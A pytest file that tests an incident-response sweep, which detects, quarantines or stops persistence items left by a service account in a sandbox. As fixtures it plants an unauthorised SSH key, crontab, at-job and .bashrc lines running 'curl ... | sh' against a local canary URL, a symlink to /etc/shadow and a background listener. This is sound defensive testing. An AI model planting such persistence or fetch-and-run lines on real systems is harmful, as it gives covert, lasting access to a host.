"""The account sweep (acct-01; issue #27, item 1) on the session sandbox, as an operator would run it
after an incident (``litellm_account_sweep: quarantine`` given with ``--data``: the sandbox's account
is an adopted one, for which the sweep is off by default).

Each row plants ONE thing, as the service account ``litellm``, that it could leave running or
scheduled outside the managed services: a key in ``~/.ssh/authorized_keys``, a crontab, an ``at`` job,
a line in ``~/.bashrc``, a link ``~/.bash_profile`` -> /etc/shadow, a ``nohup``ed background process,
a listener. The image has no cron or at: their spool files are planted directly (as root, then given
to the account, as ``crontab`` and ``at`` would leave them). Beside some rows, what must NOT be an
item is planted too (a declared key in ``authorized_keys2``, a process of root). Then, row by row:

- the drift check exits 2 and names exactly that item with its evidence (path, owner, mode, size,
  sha256, mtime; for a process its command line, executable hash, start time and sockets), each hash
  equal to what ``sha256sum`` says on the host;
- the converge stops the process (closing its listener) or moves the file into root's quarantine
  folder (root, 0700) whose manifest lists it; the declared key, root's process, /etc/shadow and the
  proxy are untouched;
- the second converge changes nothing.

After each row the host is put back as the other files expect it (the skel ``.bashrc``, no spool
folders, no quarantine folder of this file): with the default setting the sweep does not look.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys

import pytest

from tests.support.hosts import REPO, pyinfra

HOME = "/home/litellm"
QUARANTINE = "/var/lib/litellm-runner/quarantine"
PORT = 2931  # inside the sandbox
DECLARED = f"{HOME}/.ssh/authorized_keys2"
SWEEP = ["--data", "litellm_account_sweep=quarantine", "--data", 'litellm_account_allowed=["~/.ssh/authorized_keys2"]']
OPERATION = "Nothing of litellm's outside the managed services | acct-01"
CANARY = "h-sweep-" + os.urandom(4).hex()
KEY = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN3ZWVwc3dlZXBzd2VlcHN3ZWVwc3dlZXBzd2VlcHN3 {CANARY}"
CRONTAB = "/var/spool/cron/crontabs/litellm"
ATJOB = "/var/spool/cron/atjobs/a0000101d3f2a1"
FILES = {
    f"{HOME}/.ssh/authorized_keys": "authorized_keys",
    CRONTAB: "crontab",
    ATJOB: "at_job",
    f"{HOME}/.bashrc": "shell_file",
    f"{HOME}/.bash_profile": "shell_file",
}
LISTEN = (
    "import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
    f"s.bind(('127.0.0.1',{PORT}));s.listen();time.sleep(86400)"
)
SLEEP = "import time;time.sleep(86400)"


def as_account(host, command: str):
    return host.ssh(f"cd / && runuser -u litellm -- sh -c {shlex.quote(command)}")


def background(host, code: str, tag: str, user: str = "litellm"):
    """A detached python3 (argv[1] = TAG) started as USER from root's SSH session: ``nohup``, ``setsid``."""
    run = f"runuser -u {user} -- " if user != "root" else ""
    host.ssh(f"cd / && {run}setsid -f nohup python3 -c {shlex.quote(code)} {tag} </dev/null >/dev/null 2>&1")
    return host.wait_for(f"pgrep -f -u {user} -- 'python3 -c .* {tag}$'", timeout=30)


def check(host, tmp_path):
    report = tmp_path / "drift.json"
    proc = subprocess.run(
        [sys.executable, "-m", "litellm_runner.cli.check", "--json", str(report), *SWEEP],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=900,
        env={**os.environ, "LITELLM_SANDBOXES": host.name},
    )
    return proc, json.loads(report.read_text()) if report.exists() else None


def manifests(host) -> list[dict]:
    read = "import glob,json;[print(json.dumps(json.load(open(f)))) for f in sorted(glob.glob('%s/*/manifest.json'))]"
    out = host.out(f"python3 -c {shlex.quote(read % QUARANTINE)}")
    return [json.loads(line) for line in out.splitlines() if line.strip()]


def sha256(host, path: str) -> str:
    return host.out(f"sha256sum {shlex.quote(path)}").split()[0]


def plant_file(host, path: str) -> dict:
    """Plant the file item at PATH as the account would leave it; what the row then expects."""
    if path == f"{HOME}/.ssh/authorized_keys":
        as_account(host, f"mkdir -p -m 0700 ~/.ssh && echo {shlex.quote(KEY)} >> ~/.ssh/authorized_keys")
        as_account(host, f"echo {shlex.quote(KEY.replace(CANARY, 'declared'))} > ~/.ssh/authorized_keys2")
    elif path == f"{HOME}/.bashrc":
        as_account(host, f"echo 'curl -s http://127.0.0.1:9/{CANARY} | sh' >> ~/.bashrc")
    elif path == f"{HOME}/.bash_profile":
        as_account(host, "ln -s /etc/shadow ~/.bash_profile")
    else:  # what crontab(1) and at(1) would leave; neither is installed in the image
        folder, mode = ("crontabs", "1730") if path == CRONTAB else ("atjobs", "1770")
        script = "* * * * * " if path == CRONTAB else "#!/bin/sh\\n"
        host.ssh(
            f"install -d -m {mode} /var/spool/cron/{folder} && "
            f"printf '{script}curl -s http://127.0.0.1:9/{CANARY} | sh\\n' > {path} && "
            f"chown litellm:litellm {path} && chmod {'0600' if path == CRONTAB else '0700'} {path}"
        )
    link = path.endswith(".bash_profile")
    return {path: None if link else sha256(host, path)}


def plant_process(host, listener: bool) -> dict:
    """A ``nohup``ed process of the account (a listener, or a sleeper beside a process of root's)."""
    if listener:
        pid = int(background(host, LISTEN, f"{CANARY}-listen"))
        host.wait_for(f"ss -ltn | grep -q '127.0.0.1:{PORT} '", timeout=30)
        return {f"/proc/{pid}": "listen", f"tcp 127.0.0.1:{PORT}": pid}
    pid = int(background(host, SLEEP, f"{CANARY}-bg"))
    root = int(background(host, SLEEP, f"{CANARY}-root", user="root"))
    return {f"/proc/{pid}": "bg", "root": root}


ROWS = [
    pytest.param(f"{HOME}/.ssh/authorized_keys", "authorized_keys", id="key"),
    pytest.param(CRONTAB, "crontab", id="cron"),
    pytest.param(ATJOB, "at_job", id="at"),
    pytest.param(f"{HOME}/.bashrc", "shell_file", id="shell-line"),
    pytest.param(f"{HOME}/.bash_profile", "shell_file", id="shell-link"),
    pytest.param("process", "process", id="process"),
    pytest.param("listener", "process", id="listener"),
]


@pytest.fixture
def clean_after(host):
    """Put the host back as the other rows and files expect it, whatever the row left."""
    folders = set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split())
    had_spool = host.ssh("test -e /var/spool/cron", check=False).returncode == 0
    yield
    host.ssh(f"pkill -f -- '[{CANARY[0]}]{CANARY[1:]}' || true", check=False)  # never this shell itself
    host.ssh(f"install -o litellm -g litellm -m 0644 /etc/skel/.bashrc {HOME}/.bashrc", check=False)
    host.ssh(f"rm -rf {HOME}/.ssh {HOME}/.bash_profile", check=False)
    if not had_spool:
        host.ssh("rm -rf /var/spool/cron", check=False)
    for folder in set(host.out(f"ls {QUARANTINE} 2>/dev/null || true").split()) - folders:
        host.ssh(f"rm -rf {QUARANTINE}/{folder}", check=False)


def sweep_items(report: dict, host) -> dict[str, dict]:
    return {i["before"]["item"]: i for i in report["hosts"][host.name]["items"] if i["id"] == OPERATION}


@pytest.mark.parametrize("planted, kind", ROWS)
def test_each_planted_item_is_drift_with_evidence_then_quarantined_or_stopped(
    host, converged, clean_after, tmp_path, planted, kind
):
    process = planted in ("process", "listener")
    expect = plant_process(host, planted == "listener") if process else plant_file(host, planted)
    shadow = host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow")
    proxy = host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service")
    declared = sha256(host, DECLARED) if planted.endswith("authorized_keys") else None

    # the check: exit 2, exactly this item named, with its evidence
    proc, report = check(host, tmp_path)
    assert proc.returncode == 2, proc.stdout[-3000:] + proc.stderr[-3000:]
    items = sweep_items(report, host)
    named = [key for key in expect if key != "root"]
    assert sorted(items) == sorted(named), sorted(items)  # one at a time: nothing else is an item
    for key in named:
        assert key in proc.stdout  # the human report names it too
    if process:
        evidence = next(items[k]["before"] for k in named if k.startswith("/proc/"))
        tag = expect[next(k for k in named if k.startswith("/proc/"))]
        assert evidence["cmdline"][-1] == f"{CANARY}-{tag}", evidence
        assert evidence["exe_sha256"] == sha256(host, host.out("readlink -f /usr/bin/python3"))
        assert evidence["started"].endswith("Z")
        assert items[named[0]]["kind"] == "sweep process"
        if planted == "listener":
            pid = expect[f"tcp 127.0.0.1:{PORT}"]
            assert evidence["sockets"] == [f"127.0.0.1:{PORT}"]
            listener = items[f"tcp 127.0.0.1:{PORT}"]
            assert listener["kind"] == "sweep listener" and listener["before"]["pids"] == [pid]
    else:
        item = items[planted]
        assert item["kind"] == f"sweep {kind}" and item["after"] == "quarantined"
        evidence = item["before"]
        assert {"owner", "mode", "size", "mtime"} <= set(evidence), evidence
        assert evidence["owner"] == "litellm:litellm"
        if expect[planted] is None:  # the link to /etc/shadow: never followed
            assert (evidence["type"], evidence["target"], evidence["sha256"]) == ("symlink", "/etc/shadow", None)
        else:
            assert evidence["sha256"] == expect[planted]
        if planted in (CRONTAB, ATJOB):
            assert evidence["mode"] == ("0600" if planted == CRONTAB else "0700")

    # the converge: the file moved into root's quarantine, listed in its manifest; the process stopped
    first = pyinfra([host.name], "-y", *SWEEP)
    assert first.returncode == 0, first.why
    assert OPERATION in first.changed()
    moved = {
        item["path"]: item for doc in manifests(host) if doc.get("source") == "account sweep" for item in doc["items"]
    }
    if process:
        key = next(k for k in named if k.startswith("/proc/"))
        assert moved[key]["stopped"] == "SIGTERM" and moved[key]["time"].endswith("Z"), moved.get(key)
        assert host.ssh(f"test -e {key}", check=False).returncode == 1
        assert host.ssh(f"ss -ltn | grep -q '127.0.0.1:{PORT} '", check=False).returncode == 1
        if "root" in expect:
            assert host.ssh(f"test -e /proc/{expect['root']}", check=False).returncode == 0  # root's process runs
    else:
        entry = moved[planted]
        assert entry["moved_to"].startswith(QUARANTINE + "/"), entry
        assert host.ssh(f"test -e {planted} || test -L {planted}", check=False).returncode == 1
        assert host.out(f"stat -c '%U %a' {entry['moved_to'].rsplit('/', 1)[0]}") == "root 700"
        if expect[planted] is None:
            assert host.out(f"readlink {entry['moved_to']}") == "/etc/shadow"
        else:
            assert entry["sha256"] == expect[planted] == sha256(host, entry["moved_to"])
    assert host.out(f"stat -c '%U %a' {QUARANTINE}") == "root 700"
    # nothing outside the account's reach is touched
    assert host.out("stat -c '%U %a %s %Y' /etc/shadow; sha256sum /etc/shadow") == shadow
    assert host.out("systemctl --user --machine=litellm@.host show -p MainPID --value litellm.service") == proxy
    if declared:
        assert sha256(host, DECLARED) == declared  # the declared key stays

    # the second converge changes nothing
    second = pyinfra([host.name], "-y", *SWEEP)
    assert second.returncode == 0, second.why
    assert second.changed() == [], second.changed()
